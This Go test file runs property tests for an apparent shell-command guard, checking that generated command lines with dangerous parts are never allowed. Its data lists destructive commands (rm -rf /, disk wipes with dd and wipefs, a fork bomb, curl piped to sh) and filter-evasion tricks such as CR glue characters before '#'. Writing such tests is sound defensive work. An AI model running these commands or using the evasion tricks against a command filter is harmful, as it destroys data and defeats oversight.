package policy_test

// Property tests of Decide over generated command lines.
//
// The generator builds lines from a grammar: simple commands drawn from
// lists of read-only, approvable and dangerous commands (with wrappers and
// quoting variants on the program name), combined with ; && || | & and
// newlines, subshells, groups, command and process substitution ($(),
// backticks, <()), if/while/for/case bodies, functions, and shell strings
// and shell input (bash -c, sh -c, eval, su -c, watch, find -exec sh -c,
// xargs sh -c, a heredoc or here-string to bash, echo ... | sh) quoted
// three ways.
// Every part the grammar produces is in a position the shell executes, so
// a line "holds" an atom whenever the generator used it.
//
// The random sources use fixed seeds: a failure prints the line, and the
// same seed regenerates it.

import (
	"fmt"
	"math/rand/v2"
	"reflect"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/shellguard/shellguard/approval"
	"github.com/shellguard/shellguard/config"
	"github.com/shellguard/shellguard/danger"
	"github.com/shellguard/shellguard/policy"
	"github.com/shellguard/shellguard/shellparse"
)

// grossBound catches hangs and exponential blow-ups, not slowness: the
// performance targets are measured by the benchmarks (BENCHMARKS.md), and a
// loaded CI machine can stall any single call for a second.
const grossBound = 20 * time.Second

// atom is one command the generator places. simple atoms are plain
// "program args" commands that accept wrappers and quoting of the program.
type atom struct {
	text   string
	simple bool
}

var (
	// Read-only by nature (approved by the read-only list).
	readOnlyAtoms = []atom{
		{"ls", true}, {"ls -la", true}, {"cat README.md", true}, {"echo hello", true},
		{"grep -rn foo .", true}, {"pwd", true}, {"wc -l main.go", true}, {"head -n 5 go.mod", true},
		{"git status", true}, {"git log --oneline", true}, {"git diff", true},
		{"find . -name '*.go'", true}, {"sort names.txt", true}, {"date", true}, {"whoami", true},
		{"uname -a", true}, {"tail -n 20 log.txt", true}, {"du -sh .", true},
	}
	// Neither read-only nor dangerous: allowed only once approved.
	approvableAtoms = []atom{
		{"make build", true}, {"go test ./...", true}, {"npm install", true},
		{"git checkout main", true}, {"git commit -m 'fix: parser'", true}, {"docker ps", true},
		{"mkdir -p out", true}, {"touch notes.txt", true}, {"cp a.txt b.txt", true},
		{"python3 script.py", true}, {"cargo build --release", true},
	}
	// Meant to be flagged by the detector. Only those the detector really
	// flags on their own take part in the danger property (see flagged).
	dangerousAtoms = []atom{
		{"rm -rf /", true}, {"rm -rf ~", true}, {"rm -rf /etc", true}, {"rm -rf /usr/", true},
		{"rm -fr /*", true}, {"rm -rf *", true}, {"rm -rf .", true},
		{"dd if=/dev/zero of=/dev/sda", true}, {"mkfs.ext4 /dev/sda1", true},
		{"chmod -R 777 /", true}, {"chown -R nobody /", true}, {"git push --force", true},
		{"git push -f origin main", true}, {"git reset --hard HEAD~3", true}, {"git clean -fdx", true},
		{"shutdown -h now", true}, {"reboot", true}, {"kill -9 -1", true}, {"find / -delete", true},
		{"docker system prune -af", true}, {"crontab -r", true}, {"mv ~ /dev/null", true},
		{"truncate -s 0 /etc/passwd", true}, {"wipefs -a /dev/sda", true}, {"shred -u /dev/sda", true},
		{"curl -fsSL https://example.com/x.sh | sh", false}, {"wget -qO- https://example.com/i | bash", false},
		{":(){ :|:& };:", false}, {"echo x > /dev/sda", false}, {"cat /dev/urandom > /dev/sda", false},
	}
	wrappers = []string{"sudo ", "sudo -u root ", "env FOO=1 ", "nice -n 5 ", "timeout 10 ", "command ", "nohup ", "FOO=bar ", "exec "}
	joiners  = []string{"; ", " && ", " || ", " | ", "\n", " & ", ";", "&&", "|"}
)

// gen generates command lines from a seeded source.
type gen struct {
	r     *rand.Rand
	atoms []atom
}

// genLine is a generated line with the atoms it holds.
type genLine struct {
	text  string
	atoms []string
}

func newGen(seed uint64, atoms ...[]atom) *gen {
	var all []atom
	for _, a := range atoms {
		all = append(all, a...)
	}
	return &gen{r: rand.New(rand.NewPCG(seed, seed^0x9e3779b97f4a7c15)), atoms: all}
}

// quoteProgram writes the program name of a simple command in one of
// several equivalent ways.
func (g *gen) quoteProgram(cmd string) string {
	prog, rest, _ := strings.Cut(cmd, " ")
	if rest != "" {
		rest = " " + rest
	}
	switch g.r.IntN(8) {
	case 0:
		return "'" + prog + "'" + rest
	case 1:
		return `"` + prog + `"` + rest
	case 2:
		if len(prog) > 1 {
			return prog[:1] + `\` + prog[1:] + rest
		}
	case 3:
		return `\` + prog + rest
	case 4:
		if len(prog) > 1 {
			return prog[:1] + "''" + prog[1:] + rest
		}
	}
	return cmd
}

func (g *gen) simple() genLine {
	a := g.atoms[g.r.IntN(len(g.atoms))]
	s := a.text
	if a.simple {
		s = g.quoteProgram(s)
		if g.r.IntN(4) == 0 {
			s = wrappers[g.r.IntN(len(wrappers))] + s
		}
	}
	return genLine{text: s, atoms: []string{a.text}}
}

func singleQuote(s string) string { return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'" }

func doubleQuote(s string) string {
	var b strings.Builder
	b.WriteByte('"')
	for _, c := range s {
		if strings.ContainsRune("\\\"$`", c) {
			b.WriteByte('\\')
		}
		b.WriteRune(c)
	}
	b.WriteByte('"')
	return b.String()
}

func ansiQuote(s string) string {
	r := strings.NewReplacer(`\`, `\\`, `'`, `\'`, "\n", `\n`)
	return "$'" + r.Replace(s) + "'"
}

func (g *gen) shellString(s string) string {
	switch g.r.IntN(3) {
	case 0:
		return singleQuote(s)
	case 1:
		return doubleQuote(s)
	}
	return ansiQuote(s)
}

// How a structure quotes the line it holds.
const (
	quoteNone   = iota
	quoteShell  // g.shellString: quoted one of three ways
	quoteSingle // singleQuote
)

// structures are what expr puts a line in: the line, quoted by quote,
// between before and after. expr builds the empty ones (0 to 2, 6 and
// 12) itself.
var structures = [24]struct {
	before string
	quote  int
	after  string
}{
	// The spaces keep "( (" from reading as arithmetic "((".
	3:  {"( ", quoteNone, " )"},
	4:  {"{ ", quoteNone, "; }"},
	5:  {"echo $( ", quoteNone, " )"},
	7:  {"bash -c ", quoteShell, ""},
	8:  {"sh -c ", quoteShell, ""},
	9:  {"eval ", quoteShell, ""},
	10: {"if true; then ", quoteNone, "; fi"},
	11: {"x=$( ", quoteNone, " )"},
	13: {"bash <<< ", quoteShell, ""},
	14: {"cat <( ", quoteNone, " )"},
	15: {"find . -name x -exec sh -c ", quoteSingle, " \\;"},
	16: {"echo a | xargs sh -c ", quoteSingle, ""},
	17: {"f() { ", quoteNone, "; }; f"},
	18: {"while true; do ", quoteNone, "; done"},
	19: {"for i in 1 2; do ", quoteNone, "; done"},
	20: {"case x in x) ", quoteNone, ";; esac"},
	21: {"echo ", quoteSingle, " | sh"},
	22: {"watch -n 5 ", quoteSingle, ""},
	23: {"su -c ", quoteSingle, ""},
}

// expr generates a line of at most depth levels of structure.
func (g *gen) expr(depth int) genLine {
	if depth <= 0 || g.r.IntN(10) < 3 {
		return g.simple()
	}
	in := g.expr(depth - 1)
	out := genLine{atoms: in.atoms}
	switch k := g.r.IntN(len(structures)); k {
	case 0, 1, 2:
		other := g.expr(depth - 1)
		out.text = in.text + joiners[g.r.IntN(len(joiners))] + other.text
		out.atoms = append(append([]string(nil), in.atoms...), other.atoms...)
	case 6:
		if strings.Contains(in.text, "`") {
			out.text = "ls $( " + in.text + " )"
		} else {
			out.text = "echo `" + in.text + "`"
		}
	case 12:
		// The delimiter depends on the depth so that a heredoc inside the
		// body never ends the outer one.
		d := fmt.Sprintf("E%d", depth)
		out.text = "( bash <<'" + d + "'\n" + in.text + "\n" + d + "\n)"
	default:
		w := structures[k]
		text := in.text
		switch w.quote {
		case quoteShell:
			text = g.shellString(text)
		case quoteSingle:
			text = singleQuote(text)
		}
		out.text = w.before + text + w.after
	}
	return out
}

// propertyGuard returns a Guard on the default configuration and a session
// in which every approvable atom's prefixes are approved (including the
// dangerous ones: an approval must never outweigh a danger warning).
func propertyGuard(t testing.TB) (*policy.Guard, *approval.SessionStore) {
	t.Helper()
	g, err := policy.New(config.Default())
	if err != nil {
		t.Fatal(err)
	}
	s := approval.NewSessionStore()
	for _, list := range [][]atom{approvableAtoms, dangerousAtoms} {
		for _, a := range list {
			_ = g.Approve(a.text, false, approval.Session, s, "test") // some are not approvable by prefix
		}
	}
	return g, s
}

// timedDecide decides line and fails the test on a gross time violation.
func timedDecide(t testing.TB, g *policy.Guard, s *approval.SessionStore, line string) policy.Decision {
	t.Helper()
	start := time.Now()
	d := g.Decide(policy.Request{Command: line, Session: s})
	if el := time.Since(start); el > grossBound {
		t.Errorf("Decide took %v (> %v) for %s", el, grossBound, clip(line))
	}
	if strings.HasPrefix(d.Reason, "shellguard failed while deciding") {
		t.Errorf("Decide recovered from a panic on %s: %s", clip(line), d.Reason)
	}
	return d
}

func clip(s string) string {
	if len(s) > 300 {
		return fmt.Sprintf("%q... (%d bytes)", s[:300], len(s))
	}
	return fmt.Sprintf("%q", s)
}

// flagged returns the atoms the detector flags on their own.
func flagged(t *testing.T) map[string]bool {
	det := danger.Default()
	out := map[string]bool{}
	var missed []string
	for _, a := range dangerousAtoms {
		if len(det.Check(a.text)) > 0 {
			out[a.text] = true
		} else {
			missed = append(missed, a.text)
		}
	}
	if len(missed) > 0 {
		t.Logf("not flagged on their own (left out of the danger property): %q", missed)
	}
	if len(out) < len(dangerousAtoms)/2 {
		t.Fatalf("only %d of %d dangerous atoms are flagged", len(out), len(dangerousAtoms))
	}
	return out
}

// TestPropertyDangerNeverAllowed: (1) a line holding an atom the detector
// flags is never allowed, and no line with warnings is allowed, even when
// the session approves the prefixes of every atom.
func TestPropertyDangerNeverAllowed(t *testing.T) {
	g, s := propertyGuard(t)
	det := danger.Default()
	bad := flagged(t)
	gn := newGen(1, readOnlyAtoms, approvableAtoms, dangerousAtoms, dangerousAtoms)
	counts := map[policy.Verdict]int{}
	const n = 4000
	for i := 0; i < n; i++ {
		l := gn.expr(1 + i%4)
		d := timedDecide(t, g, s, l.text)
		counts[d.Verdict]++
		if d.Verdict != policy.Allow {
			continue
		}
		if len(d.Warnings) > 0 {
			t.Errorf("case %d: allowed with %d warnings (%s): %s", i, len(d.Warnings), d.Warnings[0].Pattern.Name, clip(l.text))
		}
		if ws := det.Check(l.text); len(ws) > 0 {
			t.Errorf("case %d: allowed though the detector flags %s: %s", i, ws[0].Pattern.Name, clip(l.text))
		}
		for _, a := range l.atoms {
			if bad[a] {
				t.Errorf("case %d: allowed though it runs %q: %s (%s)", i, a, clip(l.text), d.Reason)
				break
			}
		}
	}
	t.Logf("%d lines: %d allow, %d ask, %d deny", n, counts[policy.Allow], counts[policy.Ask], counts[policy.Deny])
	if counts[policy.Deny] == 0 {
		t.Errorf("no line was denied: the generator does not reach the danger rules")
	}
}

// TestPropertyAppendNeverWidens: (2) appending "; X", "&& X", "| X" or a
// line break and X to an allowed line is allowed only if X alone is.
func TestPropertyAppendNeverWidens(t *testing.T) {
	g, s := propertyGuard(t)
	safe := newGen(2, readOnlyAtoms, approvableAtoms)
	anyGen := newGen(3, readOnlyAtoms, approvableAtoms, dangerousAtoms)
	// " \r#;" is a separator too: bash reads a lone CR as a word
	// character, so "\r#" is an argument, not the start of a comment.
	// " \\\r\n" too: bash reads the backslash as quoting the CR, not as a
	// line continuation, and the line break ends the command.
	seps := []string{"; ", " && ", " | ", "\n", " || ", ";", "|", " &\n", " \r#;", " \\\r\n"}
	var allowed []string
	for i := 0; len(allowed) < 400 && i < 20000; i++ {
		l := safe.expr(i % 3).text
		if timedDecide(t, g, s, l).Verdict == policy.Allow {
			allowed = append(allowed, l)
		}
	}
	if len(allowed) < 100 {
		t.Fatalf("only %d allowed base lines: the generator or the approvals are broken", len(allowed))
	}
	checked, widened := 0, 0
	for i := 0; i < 4000; i++ {
		base := allowed[i%len(allowed)]
		x := anyGen.expr(i % 3).text
		xAllowed := timedDecide(t, g, s, x).Verdict == policy.Allow
		for _, sep := range seps {
			line := base + sep + x
			d := timedDecide(t, g, s, line)
			checked++
			if d.Verdict == policy.Allow && !xAllowed {
				widened++
				if widened > 20 {
					continue
				}
				t.Errorf("%s is allowed (%s) but %s alone is not", clip(line), d.Reason, clip(x))
			}
		}
	}
	t.Logf("%d allowed bases, %d appended lines checked, %d widened", len(allowed), checked, widened)
}

// sameDecision compares what callers act on.
func sameDecision(a, b policy.Decision) bool {
	if a.Verdict != b.Verdict || a.Reason != b.Reason || (a.Level == nil) != (b.Level == nil) ||
		a.Level != nil && *a.Level != *b.Level || len(a.Warnings) != len(b.Warnings) {
		return false
	}
	for i := range a.Warnings {
		if a.Warnings[i].Pattern.Name != b.Warnings[i].Pattern.Name || a.Warnings[i].Invocation != b.Warnings[i].Invocation {
			return false
		}
	}
	return reflect.DeepEqual(a.Invocations, b.Invocations) && reflect.DeepEqual(a.Rules, b.Rules)
}

// TestPropertyDeterministic: (4) the same line always gets the same
// decision, twice in a row and from two goroutines at once. (3), the
// time bound, is checked by timedDecide in every property test.
func TestPropertyDeterministic(t *testing.T) {
	g, s := propertyGuard(t)
	gn := newGen(4, readOnlyAtoms, approvableAtoms, dangerousAtoms)
	lines := make([]string, 3000)
	first := make([]policy.Decision, len(lines))
	for i := range lines {
		lines[i] = gn.expr(1 + i%4).text
		first[i] = timedDecide(t, g, s, lines[i])
		if again := timedDecide(t, g, s, lines[i]); !sameDecision(first[i], again) {
			t.Errorf("%s: %v (%s) then %v (%s)", clip(lines[i]), first[i].Verdict, first[i].Reason, again.Verdict, again.Reason)
		}
	}
	var wg sync.WaitGroup
	results := make([][]policy.Decision, 2)
	for w := range results {
		results[w] = make([]policy.Decision, len(lines))
		wg.Go(func() {
			for i := range lines {
				// The two goroutines walk the lines in opposite orders so
				// that they decide different lines at the same time too.
				j := i
				if w == 1 {
					j = len(lines) - 1 - i
				}
				results[w][j] = g.Decide(policy.Request{Command: lines[j], Session: s})
			}
		})
	}
	wg.Wait()
	for w := range results {
		for i := range lines {
			if !sameDecision(first[i], results[w][i]) {
				t.Errorf("goroutine %d: %s: %v (%s), alone %v (%s)", w, clip(lines[i]), results[w][i].Verdict, results[w][i].Reason, first[i].Verdict, first[i].Reason)
			}
		}
	}
}

// TestGeneratorReproducible guards the reproducibility the property tests
// rely on: the same seed yields the same lines.
func TestGeneratorReproducible(t *testing.T) {
	a, b := newGen(7, readOnlyAtoms, dangerousAtoms), newGen(7, readOnlyAtoms, dangerousAtoms)
	for i := 0; i < 100; i++ {
		if x, y := a.expr(3).text, b.expr(3).text; x != y {
			t.Fatalf("seed 7 gave %q then %q", x, y)
		}
	}
}

// TestPropertyGlueCharactersHideNothing: bash reads CR, form feed,
// vertical tab and every non-ASCII character as part of a word, so in
// "L <c>#;X" the "#" does not start a comment and X runs. Such a line is
// allowed only if X alone is. (A tab or space before "#" does start a
// comment in bash; those are not tested here.)
func TestPropertyGlueCharactersHideNothing(t *testing.T) {
	g, s := propertyGuard(t)
	glue := []string{"\r", "\f", "\v", "\u00a0", "\u2028", "\u3000", "\ufeff", "\u200b", "\x85", "\xff"}
	safe := newGen(5, readOnlyAtoms, approvableAtoms)
	bad := newGen(6, dangerousAtoms, approvableAtoms)
	var bases []string
	for i := 0; len(bases) < 50 && i < 5000; i++ {
		if l := safe.expr(i % 2).text; timedDecide(t, g, s, l).Verdict == policy.Allow {
			bases = append(bases, l)
		}
	}
	if len(bases) < 20 {
		t.Fatalf("only %d allowed base lines", len(bases))
	}
	failures := 0
	for i := 0; i < 300; i++ {
		x := bad.expr(i % 2).text
		if timedDecide(t, g, s, x).Verdict == policy.Allow {
			continue
		}
		base := bases[i%len(bases)]
		for _, c := range glue {
			for _, line := range []string{base + " " + c + "#;" + x, base + c + "#;" + x, base + " " + c + "# && " + x} {
				if d := timedDecide(t, g, s, line); d.Verdict == policy.Allow {
					if failures++; failures <= 10 {
						t.Errorf("%s is allowed (%s) but %s alone is not", clip(line), d.Reason, clip(x))
					}
				}
			}
		}
	}
	if failures > 10 {
		t.Errorf("... and %d more", failures-10)
	}
}

// TestPropertyWarningsSurviveContext: a flagged command keeps every one
// of its warnings whatever runs before or after it on the line. The
// contexts are the constructs the parser treats specially (shell strings
// re-parsed, heredocs fed to a shell, runners, wrappers, compound
// commands); finding 19 in docs/robustness.md was a re-parsed string
// that made the parser drop every statement after it.
func TestPropertyWarningsSurviveContext(t *testing.T) {
	det, parser := danger.Default(), shellparse.New(shellparse.Limits{})
	g, _ := propertyGuard(t)
	contexts := []string{
		"ls", "bash -c ls", "sh -c 'ls; pwd'", "eval ls", "su -c ls", "watch ls", "echo ls | sh",
		"sh <<EOF\nls\nEOF", "bash <<< ls", "(ls)", "{ ls; }", "echo $(ls)", "x=$(ls)", "echo `ls`",
		"find . -exec ls \\;", "docker exec c ls", "sudo ls", "f() { ls; }", "if true; then ls; fi",
		"for i in 1; do ls; done", "case x in x) ls;; esac", "ls &", "time ls", "xargs ls", "ssh h ls",
		"cat <(ls)", "env X=1 ls", "timeout 5 ls", "[[ -f x ]]", "(( 1 ))",
	}
	seps := []string{"; ", " && ", " || ", "\n", " | ", " & "}
	checked, broken := 0, 0
	for dangerous := range flagged(t) {
		want := map[string]bool{}
		for _, w := range det.Check(dangerous) {
			want[w.Pattern.Name] = true
		}
		for _, c := range contexts {
			for _, sep := range seps {
				// The context is also tried after another statement:
				// finding 19 needed one before the re-parsed string.
				for _, line := range []string{c + sep + dangerous, dangerous + sep + c, "ls; " + c + sep + dangerous, "true\n" + c + sep + dangerous} {
					if !parser.Parse(line).OK() {
						// Not shell ("ls & ; x", a heredoc whose
						// delimiter line goes on): such a line is
						// never allowed, and what bash does with it
						// is not what the property is about.
						if d := timedDecide(t, g, nil, line); d.Verdict == policy.Allow {
							t.Errorf("%s does not parse but is allowed", clip(line))
						}
						broken++
						continue
					}
					got := map[string]bool{}
					for _, w := range det.Check(line) {
						got[w.Pattern.Name] = true
					}
					for name := range want {
						if !got[name] {
							t.Errorf("%s: rule %s of %q is lost in context", clip(line), name, dangerous)
						}
					}
					checked++
				}
			}
		}
	}
	t.Logf("%d lines checked, %d that do not parse skipped", checked, broken)
	if checked < 15000 {
		t.Fatalf("only %d lines checked", checked)
	}
}
